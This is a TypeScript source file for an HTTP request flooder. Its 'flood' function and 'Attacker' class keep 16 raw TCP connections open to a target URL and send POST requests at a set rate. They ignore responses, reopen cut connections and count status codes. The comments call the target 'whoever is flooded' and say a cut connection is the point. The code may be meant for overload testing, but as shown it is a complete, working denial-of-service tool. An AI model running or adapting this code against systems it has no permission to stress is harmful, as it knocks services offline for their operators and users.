/** Sends so many requests a second over connections of its own, whatever comes back, and whether anything is read. */
import { connect, type Socket } from 'node:net'

export type FloodInit = {
  /** Base URL of whoever is flooded. */
  url: string
  path: string
  /** Requests a second. */
  perSecond: number
  body(): Uint8Array | Promise<Uint8Array>
}

/** What was sent, and what came of it, how often. */
export type Flooded = Record<string, number>

const CONNECTIONS = 16
/** Between two rounds of sending, milliseconds. */
const ROUND_MS = 20
/** Bytes that one connection has not taken, after which it is given up for another one. */
const MAX_WAITING_BYTES = 1_048_576

export async function flood(init: FloodInit, ended: AbortSignal): Promise<Flooded> {
  const counts: Flooded = { sent: 0, connections: 0 }
  const connections = Array.from({ length: CONNECTIONS }, () => new Attacker(init.url, counts))
  let [owed, turn, last] = [0, 0, performance.now()]
  while (!ended.aborted) {
    await new Promise((next) => setTimeout(next, ROUND_MS))
    const now = performance.now()
    // What this process could not send because it had no processor is not made up for at once.
    owed = Math.min(owed + ((now - last) * init.perSecond) / 1_000, (10 * ROUND_MS * init.perSecond) / 1_000)
    last = now
    for (; owed >= 1; owed -= 1) {
      const body = await init.body()
      connections[turn++ % CONNECTIONS]?.send(requestOf(init, body))
    }
  }
  for (const connection of connections) connection.end()
  return counts
}

function requestOf({ url, path }: FloodInit, body: Uint8Array): Buffer {
  const { host } = new URL(url)
  const head = `POST ${path} HTTP/1.1\r\nhost: ${host}\r\ncontent-length: ${body.length}\r\n\r\n`
  return Buffer.concat([Buffer.from(head), body])
}

/** Opens another connection when it is closed, or does not take any more. */
class Attacker {
  readonly #url: URL
  readonly #counts: Flooded
  #socket: Socket | undefined

  constructor(url: string, counts: Flooded) {
    this.#url = new URL(url)
    this.#counts = counts
  }

  send(bytes: Buffer): void {
    const socket = this.#open()
    this.#count('sent')
    socket.write(bytes)
    if (socket.writableLength < MAX_WAITING_BYTES) return
    this.#count('given up unread')
    socket.destroy()
  }

  end(): void {
    this.#socket?.destroy()
  }

  #open(): Socket {
    if (this.#socket?.destroyed === false) return this.#socket
    const socket = connect(Number(this.#url.port), this.#url.hostname)
    this.#socket = socket
    this.#count('connections')
    // A cut connection is what it is for.
    socket.on('error', () => socket.destroy())
    socket.on('end', () => socket.destroy())
    socket.on('data', (data) => {
      for (const [, status] of data.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3}) /g))
        this.#count(`answered ${status}`)
    })
    return socket
  }

  #count(what: string): void {
    this.#counts[what] = (this.#counts[what] ?? 0) + 1
  }
}
